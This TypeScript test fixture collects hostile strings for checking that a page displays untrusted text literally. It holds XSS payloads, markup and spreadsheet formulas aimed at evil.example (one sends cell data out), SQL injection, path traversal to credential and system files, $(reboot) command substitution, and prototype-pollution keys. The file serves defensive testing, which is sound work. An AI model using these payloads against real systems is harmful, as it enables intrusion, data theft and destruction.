/** Texts that callers, models and lists could bring, made to break a page: all are to be shown as they are. */

/** Sets a global that a test looks at: a script that runs is found out even where nobody sees it. */
const RUN = 'globalThis.hostile=1'

const MARKUP = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<iframe srcdoc="<script>parent.${RUN.slice(11)}</script>"></iframe>`,
  `<a href="javascript:${RUN}">here</a>`,
  `<style>*{display:none}</style>`,
  `<link rel=stylesheet href=//evil.example>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<form action=//evil.example><button>go</button></form>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<dialog open>closed</dialog>`,
  `<!--<script>${RUN}-->`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
]
const AROUND: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</p></script></style></textarea>${text}`,
  (text) => `]]>${text}`,
]

/** What a spreadsheet would take for a formula. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example","click")',
  '=cmd|"/c calc"!A1',
  '=1+1',
  '+1-1',
  '-2+3',
  '@SUM(A1:A9)',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '"=1+1"',
  'a,b;c|d',
  'a"b""c',
]

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e309',
  '[object Object]',
  '[]',
  '{}',
  '{"__proto__":{"isAdmin":true}}',
]

const QUERIES = [
  "'; DROP TABLE customers; --",
  "' OR '1'='1",
  '" OR ""="',
  '1; ATTACH DATABASE "x" AS y',
  "x' UNION SELECT key FROM keys --",
  'a%_b',
  '* NEAR("x")',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00%0d%0aSet-Cookie: a=b',
]

const TEMPLATES = [
  '{{7*7}}',
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{business} {timeOfDay}',
  '`${globalThis.hostile=1}`',
  '%s%s%n',
  '$(reboot)',
  '\\u003cscript\\u003e',
  '&lt;b&gt; &amp; &#x3c;',
]

const SCRIPTS_OF_THE_WORLD = [
  '\u202eright to left override',
  '\u2066isolated\u2069 and \u202dleft to right',
  'مرحبا بالعالم',
  'שלום עולם, abc',
  'ａｂｃ fullwidth',
  '日本語のテキスト',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031ea\u0363\u036b\u0301lgo',
  'e\u0301 and \u00e9',
  'zero\u200bwidth\u200cjoiner\u200dno\u2060break\ufeffmark',
  'soft\u00adhyphen',
  '😀😀😀 👨‍👩‍👧‍👦 🏳️‍🌈 🇺🇳',
  '\u{1f468}\u{1f3fd}\u200d\u{1f4bb}',
  'a\u2028line\u2029paragraph',
  'ﷺ﷽',
  'İıſß',
  '𝕳𝖊𝖑𝖑𝖔',
]

const LONG = [
  'x'.repeat(10_000),
  'W'.repeat(1_000),
  '😀'.repeat(500),
  'ש'.repeat(1_000),
  '0123456789'.repeat(100),
  '&'.repeat(500),
  'https://evil.example/'.repeat(40),
  'a\u00a0'.repeat(500).trim(),
  '-'.repeat(1_000),
  '_'.repeat(1_000),
]

const short = [
  ...AROUND.flatMap((around) => MARKUP.map(around)),
  ...FORMULAS,
  ...NAMES,
  ...QUERIES,
  ...TEMPLATES,
  ...SCRIPTS_OF_THE_WORLD,
]

/** All of them, two hundred and more, with no blanks around: lists take those off. */
export const HOSTILE: readonly string[] = [
  ...short,
  ...LONG,
  // Behind a plain word, where a check of the first letter looks past them.
  ...[...FORMULAS, ...NAMES, ...TEMPLATES, ...QUERIES].map((text) => `Miller ${text}`),
]

/** The beginning of a text; no character is halved. */
export const cut = (text: string, length: number): string =>
  text
    .slice(0, length)
    .replace(/[\uD800-\uDBFF]$/, '')
    .trim()
